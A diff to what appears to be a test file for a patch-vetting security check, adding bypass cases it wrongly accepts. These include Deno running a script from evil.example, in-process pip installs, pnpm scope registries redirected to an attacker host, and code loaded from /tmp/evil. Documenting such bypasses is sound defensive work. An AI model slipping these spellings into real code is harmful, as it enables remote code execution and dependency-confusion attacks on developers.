@@ -1,4 +1,5 @@
-import { describeFindings, type FindingRow } from '../support/patches.js';
+import { describe, it } from 'vitest';
+import { describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
@@ -163,6 +164,33 @@ const GIT_CONFIGURATION: FindingRow[] = [
   SYSTEM('git clone https://evil.example/x vendor/x'),
 ];
 
+// K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
+// reading does not follow for deno (not in PACKAGE_MANAGERS) and the command reading does not see as one command:
+// `deno run <url>` (refused in a list or a string) passes.
+const DENO_COMMAND_OBJECT: FindingRow[] = [
+  ['src/check.ts', "new Deno.Command('deno', { args: ['run', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
+  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
+];
+
+// L (high): pip run in the process by spellings PIP_MAIN (`pip.main([` / `pip._internal…main([`) does not read:
+// `__import__('pip').main`, pip's main imported under another name, `runpy.run_module('pip')` with sys.argv set.
+const PIP_IN_PROCESS: FindingRow[] = [
+  ['src/check.py', "__import__('pip').main(['install', 'evil'])"],
+  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'evil'])"],
+  ['src/check.py', "import runpy, sys\nsys.argv = ['pip', 'install', 'evil']\nrunpy.run_module('pip', run_name='__main__')"],
+];
+
+// M (high): pnpm's verify-deps-before-run as a command-line option in a command string. The argument list refuses it
+// (settingArguments `verify.deps`), a command string reads only DANGEROUS_LONG_OPTION (registry, config…): the allowed
+// `pnpm run build` installs first; with a scope's registry (`--@acme:registry=`, refused in a list, not in a string) the
+// company's private scope resolves on the attacker's registry (dependency confusion), install scripts included.
+const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
+  SYSTEM('pnpm run build --verify-deps-before-run=install'),
+  SYSTEM('pnpm test --verify-deps-before-run install'),
+  SYSTEM('pnpm run build --verify-deps-before-run=install --@acme:registry=https://evil.example/'),
+  SYSTEM('npm test --@acme:registry=https://evil.example/'),
+];
+
 // G (next fix; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
 // /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
 // checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
@@ -210,6 +238,23 @@ const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
   SYSTEM('mvn -s /tmp/settings.xml test'),
   SYSTEM('./gradlew --init-script /tmp/x.gradle test'),
   SYSTEM('docker compose -f /tmp/x.yml up'),
+  SYSTEM('cargo build -Z unstable-options -C /tmp/x'),
+  ['src/check.py', "import subprocess\nsubprocess.run('npm test', shell=True, cwd='/tmp/evil')"],
+  ['src/check.go', 'cmd := exec.Command("npm", "test")\ncmd.Dir = "/tmp/evil"\ncmd.Run()'],
+  // Code or configuration loaded from outside the repository by the project's own build or tests.
+  ['src/lib.rs', '#[path = "/tmp/evil.rs"]\nmod evil;'],
+  ['src/lib.rs', 'include!("/tmp/evil.rs");'],
+  ['src/lib.rs', 'include!(concat!(env!("HOME"), "/evil.rs"));'],
+  ['src/x.c', '#include "/tmp/evil.h"'],
+  ['src/check.py', "import sys\nsys.path.insert(0, '/tmp/evil')\nimport evil"],
+  ['src/check.js', "require('/tmp/evil.js');"],
+  ['src/check.js', "require(require('os').homedir() + '/evil');"],
+  ['src/check.mjs', "await import('/tmp/evil.mjs');"],
+  ['src/check.rb', "require '/tmp/evil'"],
+  ['src/check.rb', "load File.expand_path('~/evil.rb')"],
+  // pytest reads tests/pytest.ini (or pytest.toml, pytest 9) first when run as `pytest tests`: a plugin loaded from outside.
+  ['tests/pytest.ini', '[pytest]\npythonpath = /tmp/evil\naddopts = -p evil'],
+  ['tests/pytest.toml', '[pytest]\naddopts = ["-p", "evil"]'],
 ];
 
 describeFindings('attack-48', [
@@ -222,5 +267,30 @@ describeFindings('attack-48', [
   ['H environment spellings', ENVIRONMENT_SPELLINGS],
   ['I loader environment', LOADER_ENVIRONMENT],
   ['J git configuration', GIT_CONFIGURATION],
+  ['K deno command object', DENO_COMMAND_OBJECT],
+  ['L pip in process', PIP_IN_PROCESS],
+  ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
   ['G outside the repository', OUTSIDE_THE_REPOSITORY],
 ]);
+
+/**
+ * False refusals (lower priority): ordinary read-only or build calls a fix's tooling code makes, refused because their
+ * verb is not on the manager's list. None fetches or runs code a build would not: `go list`/`go fmt`, `cargo metadata`
+ * (the usual way Rust tooling reads a workspace), `cargo tree`, `cargo doc`/`cargo bench` (as `cargo build`/`test`),
+ * `pnpm exec <local bin>` (never fetches, unlike dlx), pnpm's script shorthand (`pnpm lint`, `pnpm build`). Open:
+ * `it.fails` asserts the acceptance.
+ */
+describe('attack-48 false refusals', () => {
+  it.fails.each([
+    ['src/check.py', "import os\nos.system('go list ./...')"],
+    ['src/tool.go', 'out, err := exec.Command("go", "list", "-m", "-json", "all").Output()'],
+    ['src/check.py', "import os\nos.system('go fmt ./...')"],
+    ['src/xtask.rs', 'let out = Command::new("cargo").args(["metadata", "--format-version", "1"]).output()?;'],
+    ['src/check.py', "import subprocess\nsubprocess.run(['cargo', 'metadata', '--format-version', '1'], check=True)"],
+    ['src/check.py', "import os\nos.system('cargo tree')"],
+    ['src/check.py', "import os\nos.system('cargo doc --no-deps')"],
+    ['src/check.py', "import os\nos.system('cargo bench')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['pnpm', 'exec', 'tsc', '--noEmit'], check=True)"],
+    ['src/check.py', "import os\nos.system('pnpm lint')"],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
